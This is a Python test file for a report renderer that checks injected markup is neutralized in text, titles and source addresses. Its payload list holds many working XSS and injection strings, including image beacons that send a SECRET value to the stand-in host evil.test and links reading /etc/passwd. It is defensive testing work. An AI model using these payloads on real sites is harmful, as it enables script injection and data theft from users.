"""Foreign markup is inert wherever it comes in: text, summary, titles, addresses of sources."""

import re
from dataclasses import replace

import pytest

from mcp_local.report.compose import CONTENT_SECURITY_POLICY
from mcp_local.report.markdown import parse_markdown, render_tokens
from tests.mcp_local.report.reading import Element, compose, read_html, source

PAYLOADS = [
    "<script>fetch('//evil')</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "<img src=x onerror=alert(1)>", "<img src=https://evil.test/?d=SECRET>",
    "![beacon](https://evil.test/p.png?d=SECRET)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://evil.test/x)', "![<img src=x onerror=alert(1)>](x)",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)", "[x]( java&#9;script:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)", "[x](file:///etc/passwd)", "[x](//evil.test/)", "[x](\\\\evil.test)",
    "[x](#top)", "<javascript:alert(1)>", '[x](https://ok.test/" onmouseover="alert(1))',
    '[x](https://ok.test/ "title\\" onmouseover=alert(1)")', "[1](javascript:alert(1))",
    "<base href=//evil.test>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input name=q><button>Go</button></form>",
    "<iframe src=//evil.test></iframe>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>body{background:url(//evil.test)}</style>",
    "<p style='background:url(//evil.test)'>x</p>",
    "<video poster=//evil.test><source src=//evil.test></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "| a |\n|:--|\n| <td style='background:url(//evil.test)' onclick=alert(1)> |",
    "> [!NOTE onload=alert(1)] <b onclick=alert(1)>x</b>\n> body",
    '```html" onclick=alert(1)\n<script>alert(1)</script>\n```',
    "## <img src=x onerror=alert(1)> heading", '## heading" onclick="alert(1)',
    "{{ 7 * 7 }} {% include '/etc/passwd' %}", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script>alert(1)</script>\u2028", "\0<scr\0ipt>alert(1)</script>",
]  # fmt: skip

TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "section", "footer"),
    *("nav", "div", "span", "time", "p", "h1", "h2", "h3", "h4", "h5", "h6", "ol", "ul", "li"),
    *("a", "strong", "em", "s", "small", "code", "pre", "blockquote", "aside", "br", "hr"),
    *("table", "thead", "tbody", "tr", "th", "td", "figure", "svg", "rect", "text", "b", "mark"),
}
ATTRIBUTES = {
    *(
        "lang",
        "data-n",
        "dir",
        "charset",
        "http-equiv",
        "content",
        "name",
        "class",
        "id",
        "href",
        "rel",
    ),
    *("datetime", "aria-label", "value", "start"),
    *("data-sources", "data-publishers", "data-claims", "data-found", "data-derived"),
    *("data-unfound", "data-hint", "aria-describedby", "role", "tabindex"),
}


def assert_inert(html: str) -> Element:
    tree = read_html(html)
    for element in tree.walk():
        assert element.tag in TAGS, element
        assert set(element.attrs) <= ATTRIBUTES, element
        if element.tag == "a":
            assert re.match(r"https?://|mailto:|#", element.attrs["href"]), element
    assert [meta.attrs["content"] for meta in tree.all("meta") if "http-equiv" in meta.attrs] == [
        CONTENT_SECURITY_POLICY
    ]
    (style,) = tree.all("style")
    assert set(re.findall(r"url\(.{15}", style.text)) == {"url(data:font/woff2"}
    assert "@import" not in style.text
    return tree


@pytest.mark.proves("report.inert")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_the_text_is_inert(payload: str) -> None:
    report = compose(f"## Section\n\n{payload}\n\nEnd. [1]", summary=payload)
    tree = assert_inert(report.html)
    assert "End." in tree.text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_titles_and_addresses_is_text(payload: str) -> None:
    evil = replace(source(1, payload, kind="snippet"), url=payload, title=payload)
    lure = replace(source(2), url=f"https://ok.test/{payload}")
    report = compose("End. [1, 2]", title=f"On {payload}", language=payload, sources=[evil, lure])
    tree = assert_inert(report.html)
    assert tree.one(id="source-1").all("a") == []
    assert len(tree.one(id="source-2").all("a")) == 1


def test_template_syntax_in_the_text_is_not_run() -> None:
    html = compose("{{ 7 * 7 }} [1]", title="{{ 7 * 7 }}").html
    assert "49" not in re.sub(r"<style>.*?</style>", "", html, flags=re.DOTALL)
    assert "{{ 7 * 7 }}" in html


def test_a_link_says_that_it_gives_nothing_away() -> None:
    url = "https://ok.test/a?b=1&c=2"
    known = replace(source(1), url=url)
    tree = assert_inert(compose(f"See [there]({url}). [1]", sources=[known]).html)
    assert {link.attrs["rel"] for link in tree.all("a", href=url)} == {
        "noopener noreferrer nofollow"
    }


def test_an_address_that_was_not_retrieved_is_text_with_its_host() -> None:
    html = compose("A [gift](https://evil.test/?d=SECRET). [1]").html
    assert "gift (evil.test)" in html
    assert "SECRET" not in html


def test_an_address_that_is_refused_leaves_its_text() -> None:
    html = render_tokens(parse_markdown("Read [the *guide*](javascript:alert(1)) now."), {})
    assert html == "<p>Read the <em>guide</em> now.</p>\n"


def test_deep_nesting_and_long_runs_end_soon() -> None:
    long_runs = ["[" * 20000, "*" * 20000, "- " * 3000, "`" * 20001, "[!" * 9999]
    for text in (">" * 5000 + " x", *long_runs):
        render_tokens(parse_markdown(text), {})


def test_a_title_is_one_line_of_visible_text() -> None:
    title = "# A\u202e topic\n\x00with  gaps\u200b"
    assert compose("End. [1]", title=title).title == "A topic with gaps"
